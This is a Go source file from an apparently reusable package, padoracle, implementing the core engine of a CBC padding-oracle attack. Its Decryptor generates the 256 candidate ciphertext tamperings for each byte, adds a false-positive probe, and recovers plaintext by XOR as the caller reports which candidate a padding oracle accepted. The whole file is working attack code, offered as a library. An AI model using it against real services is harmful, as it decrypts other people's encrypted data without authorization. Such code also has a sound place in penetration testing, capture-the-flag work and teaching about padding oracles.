package padoracle

// Decryptor drives a CBC padding-oracle attack against a single ciphertext.
// It owns all attack state and exposes the current round's 256 candidate
// options; it never queries an oracle itself. Call Option (or iterate
// Begin..End) to get the candidates for the current byte, hand each one to
// your oracle, and call Step with the index of the candidate the oracle
// accepted.
//
// Between calls to Step, a Decryptor is read-only and safe for concurrent
// use by multiple goroutines: Status, IV, Ciphertext, Plaintext, Begin, End
// and Option may all be called concurrently, and each call to Option returns
// an independent copy safe to hand to a different goroutine. Step itself
// requires exclusive access -- it is the only method that mutates the
// Decryptor.
type Decryptor struct {
	orig       CipherDesc
	playground CipherDesc

	blockSize    int
	blockCount   int
	currentBlock int
	currentByte  int

	plaintext []byte

	paddingByte PaddingFunc
	status      Status
}

// NewDecryptor builds a Decryptor for the given ciphertext, attacking it
// under the given padding scheme. ciphertext's length must be a positive
// multiple of len(iv); iv must be non-empty. Neither slice is retained --
// both are copied.
func NewDecryptor(iv, ciphertext []byte, paddingByte PaddingFunc) (*Decryptor, error) {
	blockSize := len(iv)
	if blockSize == 0 || len(ciphertext) == 0 || len(ciphertext)%blockSize != 0 {
		return nil, ErrInvalidLength
	}

	orig := CipherDesc{IV: iv, Ciphertext: ciphertext}.clone()
	playground := orig.clone()

	blockCount := len(ciphertext) / blockSize

	return &Decryptor{
		orig:         orig,
		playground:   playground,
		blockSize:    blockSize,
		blockCount:   blockCount,
		currentBlock: blockCount - 1,
		currentByte:  blockSize - 1,
		paddingByte:  paddingByte,
		status:       StatusNone,
	}, nil
}

// Status reports the Decryptor's current progress.
func (d *Decryptor) Status() Status {
	return d.status
}

// Clone returns a deep copy of d, independent of d and safe to step down a
// different path. It exists for callers that backtrack -- an unreliable
// oracle may need to explore several candidate bytes per position, each
// continuing from its own copy of the attack state.
func (d *Decryptor) Clone() *Decryptor {
	clone := *d
	clone.orig = d.orig.clone()
	clone.playground = d.playground.clone()
	clone.plaintext = make([]byte, len(d.plaintext))
	copy(clone.plaintext, d.plaintext)
	return &clone
}

// IV returns a copy of the original initialization vector.
func (d *Decryptor) IV() []byte {
	iv := make([]byte, len(d.orig.IV))
	copy(iv, d.orig.IV)
	return iv
}

// Ciphertext returns a copy of the original ciphertext.
func (d *Decryptor) Ciphertext() []byte {
	ct := make([]byte, len(d.orig.Ciphertext))
	copy(ct, d.orig.Ciphertext)
	return ct
}

// Plaintext returns a copy of the plaintext recovered so far: the suffix of
// the true padded plaintext that has been decrypted up to this point.
func (d *Decryptor) Plaintext() []byte {
	pt := make([]byte, len(d.plaintext))
	copy(pt, d.plaintext)
	return pt
}

// Begin returns an iterator positioned at option 0 of the current round.
func (d *Decryptor) Begin() OptionIterator {
	return newOptionIterator(d, 0)
}

// End returns the one-past-the-end iterator of the current round. It must
// not be dereferenced.
func (d *Decryptor) End() OptionIterator {
	return newOptionIterator(d, optionIteratorEnd)
}

// lastByte reports whether the current target byte is the last byte of the
// current target block, i.e. whether a false-positive probe is needed.
func (d *Decryptor) lastByte() bool {
	return d.currentByte == d.blockSize-1
}

// prevBlockOffset returns the absolute byte offset, within whichever buffer
// currently holds the previous-block bytes, of the position XOR-mixed into
// the current target byte by CBC decryption.
//
// When the ciphertext is a single block, the IV plays the role of the
// previous block, and the offset is simply the target byte's offset within
// it. Otherwise, the playground is arranged (see Step) so that its last
// block is always the block currently under attack, and the block
// immediately preceding it is the canvas the decryptor rewrites -- so the
// offset is always computed against that second-to-last block.
func (d *Decryptor) prevBlockOffset() int {
	if d.blockCount == 1 {
		return d.currentByte
	}
	return d.blockSize*(d.blockCount-2) + d.currentByte
}

// Option materializes decryption option v for the current target byte.
func (d *Decryptor) Option(v byte) DecOption {
	opt := d.playground.clone()

	if d.blockCount == 1 {
		opt.IV[d.prevBlockOffset()] = v
	} else {
		opt.Ciphertext[d.prevBlockOffset()] = v
	}

	var fp *CipherDesc
	if d.lastByte() {
		probe := opt.clone()
		flipAt := d.prevBlockOffset() - 1
		if d.blockCount == 1 {
			probe.IV[flipAt] ^= 1
		} else {
			probe.Ciphertext[flipAt] ^= 1
		}
		fp = &probe
	}

	return DecOption{Index: v, Option: opt, FalsePosCheck: fp}
}

// prevBlockByte returns the original (never the playground's) byte at
// position pos of the block immediately preceding the current target
// block -- the IV when there is no preceding ciphertext block.
func (d *Decryptor) prevBlockByte(pos int) byte {
	if d.blockCount == 1 || d.currentBlock == 0 {
		return d.orig.IV[pos]
	}
	return d.orig.Ciphertext[(d.currentBlock-1)*d.blockSize+pos]
}

// recoverByte prepends the plaintext byte implied by goodIndex to the
// recovered-plaintext accumulator.
func (d *Decryptor) recoverByte(goodIndex byte) {
	pad := d.paddingByte(0, d.blockSize-d.currentByte)
	prev := d.prevBlockByte(d.currentByte)

	recovered := prev ^ pad ^ goodIndex
	d.plaintext = append([]byte{recovered}, d.plaintext...)
}

// rewritePlayground adjusts the already-recovered bytes of the current
// block's playground canvas so that, on the next round, they decrypt to the
// padding byte sequence for one more byte of padding than before.
func (d *Decryptor) rewritePlayground() {
	padLen := d.blockSize - d.currentByte // bytes already recovered in this block
	newLen := padLen + 1

	for i := 0; i < padLen; i++ {
		pos := d.currentByte + i
		prev := d.prevBlockByte(pos)
		recovered := d.plaintext[i]
		offset := pos - (d.blockSize - newLen) // relative to start of the (newLen)-byte pad run
		b := prev ^ recovered ^ d.paddingByte(offset, newLen)

		if d.blockCount == 1 {
			d.playground.IV[pos] = b
		} else {
			d.playground.Ciphertext[d.blockSize*(d.blockCount-2)+pos] = b
		}
	}
}

// Step accepts goodIndex, the index of the option the oracle judged valid
// for the current byte, recovers the corresponding plaintext byte, rewrites
// the playground for the next round, and advances the cursor.
//
// Step panics if called after Status returns StatusDone; that is always a
// caller bug, since there is nothing left to decrypt.
func (d *Decryptor) Step(goodIndex byte) Status {
	if d.status == StatusDone {
		panic("padoracle: Step called on a completed Decryptor")
	}

	d.recoverByte(goodIndex)
	d.rewritePlayground()

	if d.currentByte > 0 {
		d.currentByte--
		d.status = StatusNone
		return d.status
	}

	d.currentByte = d.blockSize - 1
	if d.currentBlock == 0 {
		d.status = StatusDone
		return d.status
	}

	d.currentBlock--
	start := d.currentBlock * d.blockSize
	copy(d.playground.Ciphertext[len(d.playground.Ciphertext)-d.blockSize:], d.orig.Ciphertext[start:start+d.blockSize])
	d.status = StatusNewBlock
	return d.status
}
